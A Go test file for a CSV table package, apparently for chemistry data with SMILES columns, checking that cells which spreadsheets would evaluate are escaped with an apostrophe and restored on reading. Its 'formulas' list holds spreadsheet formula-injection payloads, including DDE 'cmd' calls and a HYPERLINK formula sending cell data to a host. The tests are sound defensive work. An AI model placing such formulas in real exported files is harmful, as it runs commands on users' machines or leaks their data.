package table_test

import (
	"bytes"
	"encoding/csv"
	"slices"
	"strings"
	"testing"

	"pacia/data/table"
)

// formulas are cells that a spreadsheet would evaluate, with harmful effects.
var formulas = []string{
	"=cmd|' /C calc'!A0",
	`=HYPERLINK("http://x/?"&A1,"more")`, "+SUM(1;2)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|'/C calc'!A0",
	"\t=WEBSERVICE(A1)", " =x.xlsx!name", "＝IMPORTXML(A1)", "=DDE (\"cmd\";A1)",
}

// notFormulas are cells that begin like a formula, but must not be changed.
var notFormulas = []string{"-", "-0.5", "+1,5", "-CH3", "=O", "-OCH3", "@home", "+/-(trans)", "(-)-menthol",
	"'quoted'", "'", "", "CC(=O)O", "C[C@@H](N)C=O |r|"}

func TestPlain(t *testing.T) {
	for _, f := range formulas {
		if got := table.Plain(f); got != "'"+f {
			t.Errorf("%q is written as %q", f, got)
		}
	}
	for _, c := range notFormulas {
		if got := table.Plain(c); got != c {
			t.Errorf("%q is written as %q", c, got)
		}
	}
}

// TestFormulasComeBack: Reader and ParseLine undo Plain, also for cells that began with an
// apostrophe before.
func TestFormulasComeBack(t *testing.T) {
	cells := slices.Concat(formulas, notFormulas)
	for _, f := range formulas {
		cells = append(cells, "'"+f, "''"+f)
	}
	header := []string{"smiles", "=h(1)|x"}
	for _, comma := range []rune{',', ';', '\t'} {
		var text bytes.Buffer
		w := csv.NewWriter(&text)
		w.Comma = comma
		for _, row := range append([][]string{header}, besideMolecules(cells)...) {
			if err := w.Write(table.PlainAll(row)); err != nil {
				t.Fatal(err)
			}
		}
		w.Flush()
		r, err := table.New("t.csv", &text, table.Options{SMILES: "smiles"})
		if err != nil {
			t.Fatal(err)
		}
		c, err := read(r)
		if err != nil || len(c.rows) != len(cells) || !slices.Equal(c.header, header) {
			t.Fatalf("separator %q: %d rows, header %q: %v", comma, len(c.rows), c.header, err)
		}
		for i, row := range c.rows {
			if row.Fields[1] != cells[i] {
				t.Errorf("separator %q: %q is read as %q", comma, cells[i], row.Fields[1])
			}
		}
	}
	var line bytes.Buffer
	w := csv.NewWriter(&line)
	if err := w.Write(table.PlainAll(cells)); err != nil {
		t.Fatal(err)
	}
	w.Flush()
	got, err := table.ParseLine(bytes.TrimSuffix(line.Bytes(), []byte("\n")))
	if err != nil || !slices.Equal(got, cells) {
		t.Errorf("a line of\n%q\nis read as\n%q: %v", cells, got, err)
	}
}

func besideMolecules(cells []string) (rows [][]string) {
	for i, c := range cells {
		rows = append(rows, []string{strings.Repeat("C", i+1) + "O", c})
	}
	return rows
}
